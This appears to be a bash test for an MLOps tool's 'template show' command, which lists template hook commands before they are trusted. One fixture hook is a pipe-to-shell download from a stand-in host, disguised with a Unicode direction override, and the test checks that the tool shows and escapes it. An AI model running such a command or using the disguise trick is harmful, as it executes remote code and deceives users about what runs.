#!/usr/bin/env bash
# template show prints every hook command that --trust would run (not their count), with Unicode direction overrides escaped so none can disguise one; --json gives each argv.
# shellcheck source-path=SCRIPTDIR source=harness.sh
. "$(dirname "$0")/harness.sh"

make_template tpl <<'YAML' "README.md=hi"
name: hooked
hooks:
  pre_generate:
    - "echo preparing"
  post_generate:
    - ["python3", "scripts/setup.py", "--name", "a b"]
    - "curl -s https://example.com/x | sh # \u202Etxt.exe"
    - |
      pip install -e .
      pre-commit install
YAML
expect_exit 0 mlops template show ./tpl
expect_contains "$TEST_DIR/out" "pre_generate"
expect_contains "$TEST_DIR/out" "echo preparing"
expect_contains "$TEST_DIR/out" "python3 scripts/setup.py --name 'a b'"
expect_contains "$TEST_DIR/out" 'curl -s https://example.com/x | sh # \u202etxt.exe'
expect_contains "$TEST_DIR/out" "pip install -e ."
expect_contains "$TEST_DIR/out" "pre-commit install"
expect_contains "$TEST_DIR/out" "--trust"
if grep -q "$(printf '\342\200\256')" "$TEST_DIR/out"; then fail "the direction override reached the output"; fi

expect_exit 0 mlops --json template show ./tpl
expect_json "$TEST_DIR/out" '.hooks.pre_generate[0] | join(" ")' "/bin/sh -c echo preparing"
expect_json "$TEST_DIR/out" '.hooks.post_generate[0] | join("|")' "python3|scripts/setup.py|--name|a b"
expect_json "$TEST_DIR/out" '.hooks.post_generate | length' 3
